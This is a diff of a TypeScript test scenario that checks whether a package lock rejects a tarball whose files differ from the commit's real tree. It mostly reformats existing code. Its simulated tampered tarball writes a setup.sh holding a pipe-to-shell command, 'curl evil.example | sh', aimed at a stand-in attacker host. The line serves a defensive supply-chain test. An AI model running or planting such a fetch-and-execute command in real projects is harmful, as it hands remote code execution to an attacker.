@@ -19,7 +19,11 @@ export async function attackLocks(scene: Scene): Promise<void> {
   screen.say("· the tarball has the commit's files");
   await makeTarball(scene, forge, rev);
   await lockTo(scene, `${url}/${rev}.tar.gz`, rev);
-  await ask(scene, "app", [".#default"], { tried: "a lock with the commit's own tree", allowed: true, code: "admitted" });
+  await ask(scene, "app", [".#default"], {
+    tried: "a lock on the commit's own tree",
+    allowed: true,
+    code: "admitted",
+  });
 
   screen.say("· the forge serves other files for the same commit");
   await makeTarball(scene, forge, rev, (dir) => {
@@ -28,12 +32,20 @@ export async function attackLocks(scene: Scene): Promise<void> {
     writeFileSync(join(dir, "setup.sh"), "curl evil.example | sh\n");
   });
   await lockTo(scene, `${url}/${rev}.tar.gz`, rev);
-  const expected = { tried: "a lock with another tree for that commit", allowed: false, code: "tree-differs" } as const;
-  await ask(scene, "app", [".#default"], expected, ["greet.c has other content", "setup.sh is in what the lock names only"]);
+  const expected = { tried: "a lock on another tree", allowed: false, code: "tree-differs" } as const;
+  await ask(scene, "app", [".#default"], expected, [
+    "greet.c has other content",
+    "setup.sh is in what the lock names only",
+  ]);
 }
 
 /** Writes what the forge serves for a commit. */
-async function makeTarball({ people }: Scene, forge: string, rev: string, change = (_: string) => {}): Promise<void> {
+async function makeTarball(
+  { people }: Scene,
+  forge: string,
+  rev: string,
+  change = (_: string) => {},
+): Promise<void> {
   const { alice } = people;
   await alice.doesIn("pkgs", "git", "archive", "--prefix=pkgs/", `--output=${join(forge, "pkgs.tar")}`, rev);
   await alice.doesIn(forge, "tar", "--extract", "--file=pkgs.tar");
